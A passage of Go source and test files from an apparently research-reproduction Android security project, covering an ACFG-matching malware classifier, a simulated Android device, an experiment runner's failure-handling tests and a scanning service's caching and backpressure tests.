		g := ACFG{Name: fn.Name, Blocks: make([]ACFGBlock, 0, len(fn.Blocks))}
		for _, b := range fn.Blocks {
			g.Blocks = append(g.Blocks, ACFGBlock{Sig: b.Sig(), Succs: append([]int(nil), b.Succs...)})
		}
		out = append(out, g)
	}
	return out
}

// matchACFG computes the fraction of train's blocks that have a parallel
// match in test: same signature, same out-degree, and matching successor
// signature multisets. Each test block matches at most one train block.
func matchACFG(train, test ACFG) float64 {
	if len(train.Blocks) == 0 {
		return 0
	}
	used := make([]bool, len(test.Blocks))
	matched := 0
	for _, tb := range train.Blocks {
		for i, sb := range test.Blocks {
			if used[i] || sb.Sig != tb.Sig || len(sb.Succs) != len(tb.Succs) {
				continue
			}
			if succSigs(train, tb) != succSigs(test, sb) {
				continue
			}
			used[i] = true
			matched++
			break
		}
	}
	return float64(matched) / float64(len(train.Blocks))
}

// succSigs renders the sorted multiset of successor signatures.
func succSigs(g ACFG, b ACFGBlock) string {
	sigs := make([]string, 0, len(b.Succs))
	for _, s := range b.Succs {
		if s >= 0 && s < len(g.Blocks) {
			sigs = append(sigs, g.Blocks[s].Sig)
		}
	}
	sort.Strings(sigs)
	out := ""
	for _, s := range sigs {
		out += s + "|"
	}
	return out
}

// Sample is one trained malware sample.
type Sample struct {
	Family string
	ACFGs  []ACFG
	blocks int
}

// Detection is a classification result.
type Detection struct {
	// Malware is true when some training sample matched above threshold.
	Malware bool
	// Family is the best-matching family.
	Family string
	// Score is the best sample match degree in [0,1].
	Score float64
}

// Classifier is the trained detector. The zero value is an untrained
// classifier that flags nothing.
type Classifier struct {
	// Threshold overrides MatchThreshold when non-zero (used by the
	// ablation bench sweeping the paper's 90% choice).
	Threshold float64
	samples   []*Sample
}

// Train adds one training sample lifted from a malware binary.
func (c *Classifier) Train(family string, p *mail.Program) error {
	if family == "" {
		return fmt.Errorf("droidnative: empty family name")
	}
	acfgs := BuildACFGs(p)
	total := 0
	for _, g := range acfgs {
		total += len(g.Blocks)
	}
	if total == 0 {
		return fmt.Errorf("droidnative: sample for %q has no code", family)
	}
	c.samples = append(c.samples, &Sample{Family: family, ACFGs: acfgs, blocks: total})
	return nil
}

// TrainedSamples returns the number of training samples.
func (c *Classifier) TrainedSamples() int { return len(c.samples) }

// Families returns the distinct trained family names, sorted.
func (c *Classifier) Families() []string {
	seen := make(map[string]bool)
	var out []string
	for _, s := range c.samples {
		if !seen[s.Family] {
			seen[s.Family] = true
			out = append(out, s.Family)
		}
	}
	sort.Strings(out)
	return out
}

func (c *Classifier) threshold() float64 {
	if c.Threshold > 0 {
		return c.Threshold
	}
	return MatchThreshold
}

// Classify matches the test program against every training sample and
// reports the best match. The sample-level score is the
// block-count-weighted coverage of the training sample's ACFGs by their
// best-matching test functions.
func (c *Classifier) Classify(p *mail.Program) Detection {
	testACFGs := BuildACFGs(p)
	best := Detection{}
	for _, s := range c.samples {
		score := c.sampleScore(s, testACFGs)
		if score > best.Score {
			best.Score = score
			best.Family = s.Family
		}
	}
	best.Malware = best.Score > c.threshold()
	if !best.Malware {
		best.Family = ""
	}
	return best
}

func (c *Classifier) sampleScore(s *Sample, test []ACFG) float64 {
	weighted := 0.0
	for _, tg := range s.ACFGs {
		bestFn := 0.0
		for _, sg := range test {
			if m := matchACFG(tg, sg); m > bestFn {
				bestFn = m
				if bestFn == 1.0 {
					break
				}
			}
		}
		weighted += bestFn * float64(len(tg.Blocks))
	}
	return weighted / float64(s.blocks)
}
