package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestDiffMissingBaseline: the first trajectory point has nothing to
// regress against — a missing OLD file passes with a note instead of
// failing CI.
func TestDiffMissingBaseline(t *testing.T) {
	dir := t.TempDir()
	head := filepath.Join(dir, "BENCH_1.json")
	if err := os.WriteFile(head, []byte(`{}`), 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	code := cmdDiff(&out, []string{filepath.Join(dir, "BENCH_0.json"), head})
	if code != 0 {
		t.Fatalf("missing baseline: exit %d, want 0\n%s", code, out.String())
	}
	if !strings.Contains(out.String(), "no baseline") {
		t.Fatalf("missing baseline note absent:\n%s", out.String())
	}
}

// TestDiffMalformedBaseline: a baseline that exists but cannot be read
// as a trajectory point is still a hard error — only absence is benign.
func TestDiffMalformedBaseline(t *testing.T) {
	dir := t.TempDir()
	base := filepath.Join(dir, "BENCH_0.json")
	if err := os.WriteFile(base, []byte(`not json`), 0o644); err != nil {
		t.Fatal(err)
	}
	head := filepath.Join(dir, "BENCH_1.json")
	if err := os.WriteFile(head, []byte(`{}`), 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if code := cmdDiff(&out, []string{base, head}); code != 1 {
		t.Fatalf("malformed baseline: exit %d, want 1", code)
	}
}

// TestDiffUsage: wrong arity is a usage error, not a pass.
func TestDiffUsage(t *testing.T) {
	var out strings.Builder
	if code := cmdDiff(&out, []string{"only-one.json"}); code != 2 {
		t.Fatalf("one arg: exit %d, want 2", code)
	}
}
