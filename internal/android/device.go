// Package android simulates the slice of the Android platform that
// DyDroid's measurement depends on: device state (system time, airplane
// mode, WiFi, location service), the storage tree with its ownership and
// API-level-dependent write semantics, the package manager, a process
// table (for ptrace-style native malware), and the catalog of
// privacy-sensitive APIs and content-provider URIs used by the taint
// analyses.
//
// The simulated device defaults to API level 18 (Android 4.3.1), matching
// the instrumented device of the paper's measurement.
package android

import (
	"fmt"
	"sync"
	"time"
)

// DefaultAPILevel is Android 4.3.1, the paper's measurement platform.
const DefaultAPILevel = 18

// KitKatAPILevel (Android 4.4) is where external storage stopped being
// world-writable without a permission — the boundary in the Table IX
// vulnerability analysis.
const KitKatAPILevel = 19

// Device is one simulated Android device. A Device and everything hanging
// off it is safe for concurrent use.
type Device struct {
	mu sync.Mutex

	apiLevel int
	clock    time.Time
	airplane bool
	wifi     bool
	location bool

	// Identity values surfaced through the privacy-source APIs.
	IMEI        string
	IMSI        string
	ICCID       string
	PhoneNumber string
	Accounts    []string

	Storage  *Storage
	Packages *PackageManager

	procMu    sync.Mutex
	nextPID   int
	processes map[int]*Process
	ptraces   []PtraceEvent
}

// Option configures a new Device.
type Option func(*Device)

// WithAPILevel overrides the platform API level.
func WithAPILevel(level int) Option {
	return func(d *Device) { d.apiLevel = level }
}

// WithClock sets the initial system time.
func WithClock(t time.Time) Option {
	return func(d *Device) { d.clock = t }
}

// WithStorageQuota bounds total storage bytes (0 = unlimited); the
// pipeline's storage-exhaustion handling is exercised through this.
func WithStorageQuota(bytes int64) Option {
	return func(d *Device) { d.Storage.quota = bytes }
}

// NewDevice creates a device with connectivity and location on, the
// default API level, and a fixed deterministic clock.
func NewDevice(opts ...Option) *Device {
	d := &Device{
		apiLevel:    DefaultAPILevel,
		clock:       time.Date(2016, 11, 15, 10, 0, 0, 0, time.UTC),
		wifi:        true,
		location:    true,
		IMEI:        "352099001761481",
		IMSI:        "310260000000000",
		ICCID:       "89014103211118510720",
		PhoneNumber: "+15555550100",
		Accounts:    []string{"user@example.com"},
		nextPID:     1000,
		processes:   make(map[int]*Process),
	}
	d.Storage = newStorage(d)
	d.Packages = newPackageManager(d)
	for _, opt := range opts {
		opt(d)
	}
	return d
}

// APILevel returns the platform API level.
func (d *Device) APILevel() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.apiLevel
}

// Now returns the simulated system time.
func (d *Device) Now() time.Time {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.clock
}

// SetClock sets the system time (the Table VIII "system time"
// configuration).
func (d *Device) SetClock(t time.Time) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.clock = t
}

// AdvanceClock moves the system time forward.
func (d *Device) AdvanceClock(delta time.Duration) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.clock = d.clock.Add(delta)
}

// SetAirplaneMode toggles airplane mode. Entering airplane mode also turns
// WiFi off; it can be re-enabled afterwards (the paper's "airplane
// mode/WiFi ON" configuration).
func (d *Device) SetAirplaneMode(on bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.airplane = on
	if on {
		d.wifi = false
	}
}

// SetWiFi toggles WiFi.
func (d *Device) SetWiFi(on bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.wifi = on
}

// SetLocationEnabled toggles the location service.
func (d *Device) SetLocationEnabled(on bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.location = on
}

// AirplaneModeOn reports whether airplane mode is enabled (exposed to
// apps through the Settings provider, which runtime-gated malware reads).
func (d *Device) AirplaneModeOn() bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.airplane
}

// NetworkAvailable reports whether any connectivity exists: WiFi counts
// even in airplane mode, cellular only outside it.
func (d *Device) NetworkAvailable() bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.wifi || !d.airplane
}

// LocationEnabled reports whether the location service is on.
func (d *Device) LocationEnabled() bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.location
}

// Process is a running application process.
type Process struct {
	PID     int
	Package string
	UID     int // 0 = root
}

// PtraceEvent records one ptrace attach observed on the device.
type PtraceEvent struct {
	TracerPID int
	TraceePID int
	TracerPkg string
	TraceePkg string
}

// StartProcess registers a process for the package and returns it.
func (d *Device) StartProcess(pkg string, uid int) *Process {
	d.procMu.Lock()
	defer d.procMu.Unlock()
	d.nextPID++
	p := &Process{PID: d.nextPID, Package: pkg, UID: uid}
	d.processes[p.PID] = p
	return p
}

// FindProcessByPID returns the process with the given PID, or nil.
func (d *Device) FindProcessByPID(pid int) *Process {
	d.procMu.Lock()
	defer d.procMu.Unlock()
	return d.processes[pid]
}

// FindProcessByPackage returns the first process of the package, or nil.
func (d *Device) FindProcessByPackage(pkg string) *Process {
	d.procMu.Lock()
	defer d.procMu.Unlock()
	// PIDs are assigned in increasing order; scan for the lowest for
	// determinism.
	var best *Process
	for _, p := range d.processes {
		if p.Package == pkg && (best == nil || p.PID < best.PID) {
			best = p
		}
	}
	return best
}

// PtraceAttach attaches tracer to tracee. Tracing another package's
// process requires root, mirroring the Chathook-ptrace malware's
// privilege-escalation step.
func (d *Device) PtraceAttach(tracer *Process, traceePID int) error {
	d.procMu.Lock()
	defer d.procMu.Unlock()
	tracee, ok := d.processes[traceePID]
	if !ok {
		return fmt.Errorf("android: ptrace: no process %d", traceePID)
	}
	if tracee.Package != tracer.Package && tracer.UID != 0 {
		return fmt.Errorf("android: ptrace: %s (pid %d) may not trace %s (pid %d) without root",
			tracer.Package, tracer.PID, tracee.Package, tracee.PID)
	}
	d.ptraces = append(d.ptraces, PtraceEvent{
		TracerPID: tracer.PID, TraceePID: tracee.PID,
		TracerPkg: tracer.Package, TraceePkg: tracee.Package,
	})
	return nil
}

// PtraceEvents returns a copy of all recorded ptrace attaches.
func (d *Device) PtraceEvents() []PtraceEvent {
	d.procMu.Lock()
	defer d.procMu.Unlock()
	return append([]PtraceEvent(nil), d.ptraces...)
}

// ResetRuntimeState clears processes and ptrace events between app runs.
func (d *Device) ResetRuntimeState() {
	d.procMu.Lock()
	defer d.procMu.Unlock()
	d.processes = make(map[int]*Process)
	d.ptraces = nil
}
