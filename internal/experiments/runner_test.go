package experiments

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
)

func appIndex(st *corpus.Store, app *corpus.StoreApp) int {
	for i, a := range st.Apps {
		if a == app {
			return i
		}
	}
	return -1
}

// TestRunRecordsPerAppFailures: under the default FailRecord policy a
// failing app yields a StatusAnalysisError record, every other record is
// preserved, no error is lost, and progress still reaches the total.
func TestRunRecordsPerAppFailures(t *testing.T) {
	errBoom := errors.New("boom")
	var maxDone int
	var progressMu sync.Mutex
	cfg := Config{
		Seed: 11, Scale: 0.002, Workers: 4, MaxAttempts: 1,
		Progress: func(done, total int) {
			progressMu.Lock()
			if done > maxDone {
				maxDone = done
			}
			progressMu.Unlock()
		},
	}
	cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
		if appIndex(st, app)%5 == 0 {
			return nil, fmt.Errorf("injected: %w", errBoom)
		}
		return analyzeOne(ctx, an, st, app)
	}
	res, err := Run(cfg)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	total := len(res.Records)
	if total == 0 {
		t.Fatal("no records")
	}
	wantFailed := (total + 4) / 5 // indices 0, 5, 10, ...
	failed := 0
	for i, rec := range res.Records {
		if rec == nil || rec.Result == nil {
			t.Fatalf("record %d is nil", i)
		}
		if i%5 == 0 {
			failed++
			if rec.Result.Status != core.StatusAnalysisError {
				t.Fatalf("record %d status = %s, want %s", i, rec.Result.Status, core.StatusAnalysisError)
			}
			if !errors.Is(rec.Err, errBoom) {
				t.Fatalf("record %d error lost: %v", i, rec.Err)
			}
		} else {
			if rec.Err != nil || rec.Result.Status == core.StatusAnalysisError {
				t.Fatalf("healthy record %d marked failed: %v", i, rec.Err)
			}
		}
	}
	if failed != wantFailed {
		t.Fatalf("failed = %d, want %d", failed, wantFailed)
	}
	if res.RunStats.Failed != wantFailed || res.RunStats.Succeeded != total-wantFailed {
		t.Fatalf("RunStats failed/succeeded = %d/%d, want %d/%d",
			res.RunStats.Failed, res.RunStats.Succeeded, wantFailed, total-wantFailed)
	}
	if res.RunStats.StatusCounts[core.StatusAnalysisError] != wantFailed {
		t.Fatalf("StatusCounts[analysis-error] = %d, want %d",
			res.RunStats.StatusCounts[core.StatusAnalysisError], wantFailed)
	}
	if maxDone != total {
		t.Fatalf("final progress = %d, want %d (callback must fire for failed apps too)", maxDone, total)
	}
	if len(res.Failures()) != wantFailed {
		t.Fatalf("Failures() = %d records, want %d", len(res.Failures()), wantFailed)
	}
	// The aggregated error names every failing package.
	agg := res.Err()
	if agg == nil {
		t.Fatal("Results.Err() = nil with failures present")
	}
	for i, rec := range res.Records {
		if i%5 == 0 && !strings.Contains(agg.Error(), rec.Meta.Package) {
			t.Fatalf("aggregated error missing package %s", rec.Meta.Package)
		}
	}
}

// TestRunRetryRecoversTransientFailure: a failure on the first attempt
// only is retried and leaves a clean record.
func TestRunRetryRecoversTransientFailure(t *testing.T) {
	var mu sync.Mutex
	attempts := map[int]int{}
	cfg := Config{Seed: 13, Scale: 0.002, Workers: 2} // MaxAttempts default: 2
	cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
		i := appIndex(st, app)
		mu.Lock()
		attempts[i]++
		n := attempts[i]
		mu.Unlock()
		if i == 1 && n == 1 {
			return nil, errors.New("transient")
		}
		return analyzeOne(ctx, an, st, app)
	}
	res, err := Run(cfg)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.RunStats.Retried != 1 {
		t.Fatalf("Retried = %d, want 1", res.RunStats.Retried)
	}
	if res.RunStats.Failed != 0 {
		t.Fatalf("Failed = %d, want 0", res.RunStats.Failed)
	}
	if rec := res.Records[1]; rec.Err != nil || rec.Result.Status == core.StatusAnalysisError {
		t.Fatalf("retried record not clean: %+v", rec.Result.Status)
	}
	if res.Err() != nil {
		t.Fatalf("Results.Err() = %v, want nil", res.Err())
	}
}

// TestRunFailFastStopsDispatch: the first error cancels the run instead
// of burning CPU on the rest of the corpus.
func TestRunFailFastStopsDispatch(t *testing.T) {
	var calls int32
	cfg := Config{
		Seed: 11, Scale: 0.004, Workers: 1,
		OnFailure: FailFast, MaxAttempts: 1,
	}
	cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
		atomic.AddInt32(&calls, 1)
		return nil, fmt.Errorf("fatal for %s", app.Spec.Pkg)
	}
	res, err := Run(cfg)
	if err == nil {
		t.Fatal("Run returned nil error under FailFast")
	}
	if res != nil {
		t.Fatal("Run returned results alongside a FailFast error")
	}
	if !strings.Contains(err.Error(), "experiments:") {
		t.Fatalf("error not wrapped: %v", err)
	}
	// One worker: the first failure cancels dispatch; at most the job
	// already queued slips through.
	if n := atomic.LoadInt32(&calls); n > 2 {
		t.Fatalf("analyzed %d apps after fatal error, want dispatch to stop", n)
	}
}

// TestRunContextCancellation: an externally cancelled context aborts the
// run with the context error.
func TestRunContextCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := Run(Config{Seed: 11, Scale: 0.002, Workers: 2, Context: ctx})
	if err == nil || !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// TestRunCancellationMidRun cancels from inside the analysis loop and
// checks the run winds down instead of draining the corpus.
func TestRunCancellationMidRun(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var calls int32
	cfg := Config{Seed: 11, Scale: 0.004, Workers: 1, Context: ctx}
	cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
		if atomic.AddInt32(&calls, 1) == 2 {
			cancel()
		}
		return analyzeOne(ctx, an, st, app)
	}
	_, err := Run(cfg)
	if err == nil || !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if n := atomic.LoadInt32(&calls); n > 3 {
		t.Fatalf("analyzed %d apps after cancellation", n)
	}
}

// TestRunStatsSnapshot: a healthy run exposes non-zero per-stage timings
// and throughput.
func TestRunStatsSnapshot(t *testing.T) {
	res := small(t)
	st := res.RunStats
	if st.Apps != len(res.Records) || st.Apps == 0 {
		t.Fatalf("stats apps = %d, records = %d", st.Apps, len(res.Records))
	}
	if st.AppsPerSec <= 0 {
		t.Fatalf("throughput = %f", st.AppsPerSec)
	}
	if st.Failed != 0 || st.Succeeded != st.Apps {
		t.Fatalf("failed/succeeded = %d/%d", st.Failed, st.Succeeded)
	}
	for _, stage := range []string{"stage.unpack", "stage.dynamic", "stage.static", "stage.replay", "app.total"} {
		hs, ok := st.Stages[stage]
		if !ok || hs.Count == 0 {
			t.Fatalf("stage %s missing from stats: %+v", stage, st.Stages)
		}
		if hs.Total <= 0 || hs.Max <= 0 {
			t.Fatalf("stage %s has zero timings: %+v", stage, hs)
		}
	}
	if st.Stages["app.total"].Count != int64(st.Apps) {
		t.Fatalf("app.total count = %d, want %d", st.Stages["app.total"].Count, st.Apps)
	}
	if len(st.StatusCounts) == 0 || st.StatusCounts[core.StatusAnalysisError] != 0 {
		t.Fatalf("status counts = %+v", st.StatusCounts)
	}
	out := st.String()
	for _, want := range []string{"apps/sec", "stage.dynamic", "status"} {
		if !strings.Contains(out, want) {
			t.Fatalf("RunStats rendering missing %q:\n%s", want, out)
		}
	}
}
