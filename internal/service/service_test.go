package service

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/bouncer"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/resultstore"
)

// tinyAPK builds a minimal distinct archive per package name (no DCL, so
// the pipeline finishes instantly when a real analyzer runs).
func tinyAPK(t *testing.T, pkg string) []byte {
	t.Helper()
	b := dex.NewBuilder()
	b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	data, err := apk.Build(&apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// newStubServer builds a server whose analyze function is replaced; the
// zero-value analyzer satisfies New but never runs.
func newStubServer(t *testing.T, cfg Config, analyze func(string, []byte) (*Record, error)) (*Server, *httptest.Server) {
	t.Helper()
	if cfg.Analyzer == nil {
		cfg.Analyzer = core.NewAnalyzer(core.Options{})
	}
	if cfg.Metrics == nil {
		cfg.Metrics = metrics.New()
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if analyze != nil {
		s.analyze = func(j *job) (*Record, error) { return analyze(j.digest, j.data) }
	}
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		s.Shutdown(ctx)
	})
	return s, ts
}

func postScan(t *testing.T, ts *httptest.Server, body []byte) (*http.Response, []byte) {
	t.Helper()
	resp, err := http.Post(ts.URL+"/v1/scan", "application/octet-stream", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, b
}

func getResult(t *testing.T, ts *httptest.Server, digest string) (*http.Response, []byte) {
	t.Helper()
	resp, err := http.Get(ts.URL + "/v1/result/" + digest)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, b
}

// pollResult polls until the verdict lands (or the deadline passes).
func pollResult(t *testing.T, ts *httptest.Server, digest string) []byte {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		resp, body := getResult(t, ts, digest)
		switch resp.StatusCode {
		case http.StatusOK:
			return body
		case http.StatusAccepted:
			time.Sleep(10 * time.Millisecond)
		default:
			t.Fatalf("result poll: %d %s", resp.StatusCode, body)
		}
	}
	t.Fatal("verdict never arrived")
	return nil
}

// TestServiceEndToEnd is the acceptance scenario: a malware APK from the
// corpus submitted twice. The first submission analyzes and the verdict
// is byte-identical to a fresh direct pipeline run; the second submission
// is served from the result store without re-analysis.
func TestServiceEndToEnd(t *testing.T) {
	st, err := corpus.Generate(corpus.Config{Seed: 3, Scale: 0.001})
	if err != nil {
		t.Fatal(err)
	}
	clf, err := st.TrainingSet(1)
	if err != nil {
		t.Fatal(err)
	}
	// Prefer a packed malware sample (the packer-evasion shape); any
	// malware app exercises the full verdict surface.
	var target *corpus.StoreApp
	for _, app := range st.Apps {
		if app.Spec.MalwareFamily == "" {
			continue
		}
		if target == nil || (app.Spec.Packed && !target.Spec.Packed) {
			target = app
		}
	}
	if target == nil {
		t.Fatal("no malware app in the store")
	}
	apkBytes, err := st.BuildAPK(target)
	if err != nil {
		t.Fatal(err)
	}

	const seed = 3
	reg := metrics.New()
	store, err := resultstore.Open(resultstore.Options{Dir: t.TempDir(), Version: RecordVersion})
	if err != nil {
		t.Fatal(err)
	}
	newAnalyzer := func(m *metrics.Registry) *core.Analyzer {
		return core.NewAnalyzer(core.Options{
			Seed: seed, Classifier: clf, Network: st.Network, SetupDevice: st.SetupDevice, Metrics: m,
		})
	}
	s, err := New(Config{
		Analyzer: newAnalyzer(reg),
		Reviewer: &bouncer.Reviewer{Classifier: clf, Network: st.Network, Metrics: reg},
		Store:    store,
		Workers:  2,
		Metrics:  reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	// First submission: queued, then analyzed.
	resp, body := postScan(t, ts, apkBytes)
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("first scan: %d %s", resp.StatusCode, body)
	}
	var sub scanResponse
	if err := json.Unmarshal(body, &sub); err != nil {
		t.Fatal(err)
	}
	wantDigest, err := apk.SigningDigest(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if sub.Digest != wantDigest || sub.Status != "queued" {
		t.Fatalf("submission = %+v", sub)
	}
	served := pollResult(t, ts, sub.Digest)

	// The served verdict is byte-identical to a fresh direct run with the
	// same configuration.
	directReviewer := &bouncer.Reviewer{Classifier: clf, Network: st.Network}
	v, err := directReviewer.Review(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	res, err := newAnalyzer(nil).AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	want, err := NewRecord(wantDigest, res, &v).Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(served, want) {
		t.Fatalf("served verdict differs from direct run:\nserved: %s\ndirect: %s", served, want)
	}
	var rec Record
	if err := json.Unmarshal(served, &rec); err != nil {
		t.Fatal(err)
	}
	if len(rec.Malware) == 0 {
		t.Fatalf("malware sample produced no detections: %s", served)
	}
	if rec.Review == nil {
		t.Fatal("record carries no review verdict")
	}
	if got := reg.Counter("service.analyzed"); got != 1 {
		t.Fatalf("service.analyzed = %d", got)
	}

	// Second submission: cached verdict, byte-identical, no re-analysis.
	resp, body = postScan(t, ts, apkBytes)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("second scan: %d %s", resp.StatusCode, body)
	}
	if !bytes.Equal(body, want) {
		t.Fatalf("cached verdict differs:\ncached: %s\nwant: %s", body, want)
	}
	if got := reg.Counter("service.analyzed"); got != 1 {
		t.Fatalf("re-analysis happened: service.analyzed = %d", got)
	}
	if got := reg.Counter("service.scan.cached"); got != 1 {
		t.Fatalf("service.scan.cached = %d", got)
	}

	// healthz and metricz respond.
	resp2, err := http.Get(ts.URL + "/v1/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %d", resp2.StatusCode)
	}
	resp3, err := http.Get(ts.URL + "/v1/metricz")
	if err != nil {
		t.Fatal(err)
	}
	mbody, _ := io.ReadAll(resp3.Body)
	resp3.Body.Close()
	if !bytes.Contains(mbody, []byte("service.analyzed")) || !bytes.Contains(mbody, []byte("resultstore")) {
		t.Fatalf("metricz missing sections:\n%s", mbody)
	}

	// Drain cleanly.
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
}

// TestQueueFullRejectsWith429 fills the bounded queue behind a blocked
// worker and checks backpressure.
func TestQueueFullRejectsWith429(t *testing.T) {
	started := make(chan string, 8)
	unblock := make(chan struct{})
	reg := metrics.New()
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 1, Metrics: reg},
		func(digest string, data []byte) (*Record, error) {
			started <- digest
			<-unblock
			return &Record{Digest: digest, Status: "exercised"}, nil
		})
	defer close(unblock)

	// First job: picked up by the lone worker (blocked in analyze).
	resp, body := postScan(t, ts, tinyAPK(t, "com.q.one"))
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("scan 1: %d %s", resp.StatusCode, body)
	}
	select {
	case <-started:
	case <-time.After(10 * time.Second):
		t.Fatal("worker never started")
	}

	// Second job: sits in the queue (depth 1).
	resp, body = postScan(t, ts, tinyAPK(t, "com.q.two"))
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("scan 2: %d %s", resp.StatusCode, body)
	}

	// Third job: queue full → 429 with Retry-After.
	resp, body = postScan(t, ts, tinyAPK(t, "com.q.three"))
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("scan 3: %d %s", resp.StatusCode, body)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Fatal("429 without Retry-After")
	}
	if got := reg.Counter("service.scan.rejected"); got != 1 {
		t.Fatalf("service.scan.rejected = %d", got)
	}
}

// TestRetryAfterScalesWithBacklog: the 429 backoff derives from queue
// length × recent mean analyze latency ÷ workers, instead of a
// hard-coded 1s regardless of how deep the backlog actually is.
func TestRetryAfterScalesWithBacklog(t *testing.T) {
	started := make(chan string, 8)
	unblock := make(chan struct{})
	reg := metrics.New()
	// Recent history: analyses take 4s on average.
	for i := 0; i < 8; i++ {
		reg.Observe("service.job", 4*time.Second)
	}
	_, ts := newStubServer(t, Config{Workers: 2, QueueDepth: 4, Metrics: reg},
		func(digest string, data []byte) (*Record, error) {
			started <- digest
			<-unblock
			return &Record{Digest: digest, Status: "exercised"}, nil
		})
	defer close(unblock)

	// Two jobs occupy the workers (both observed blocked in analyze), four
	// more fill the queue, so the rejected seventh sees a full queue.
	for i := 0; i < 6; i++ {
		resp, body := postScan(t, ts, tinyAPK(t, fmt.Sprintf("com.backlog.app%d", i)))
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("scan %d: %d %s", i, resp.StatusCode, body)
		}
		if i == 1 {
			for w := 0; w < 2; w++ {
				select {
				case <-started:
				case <-time.After(10 * time.Second):
					t.Fatal("workers never started")
				}
			}
		}
	}
	resp, body := postScan(t, ts, tinyAPK(t, "com.backlog.rejected"))
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("saturated scan: %d %s", resp.StatusCode, body)
	}
	// Full queue (4) × 4s mean ÷ 2 workers = 8s to drain.
	got, err := strconv.Atoi(resp.Header.Get("Retry-After"))
	if err != nil {
		t.Fatalf("Retry-After %q not an integer: %v", resp.Header.Get("Retry-After"), err)
	}
	if got != 8 {
		t.Fatalf("Retry-After = %d, want 8 (queue 4 × mean 4s / 2 workers)", got)
	}
}

// TestRetryAfterColdStart: with zero completed analyses there is no mean
// latency yet; the very first 429 must still scale with the backlog (a
// nominal 1s/job stands in) instead of answering the 1s clamp floor.
func TestRetryAfterColdStart(t *testing.T) {
	started := make(chan string, 8)
	unblock := make(chan struct{})
	reg := metrics.New()
	_, ts := newStubServer(t, Config{Workers: 2, QueueDepth: 4, Metrics: reg},
		func(digest string, data []byte) (*Record, error) {
			started <- digest
			<-unblock
			return &Record{Digest: digest, Status: "exercised"}, nil
		})
	defer close(unblock)

	// Two jobs occupy the workers, four fill the queue; nothing has ever
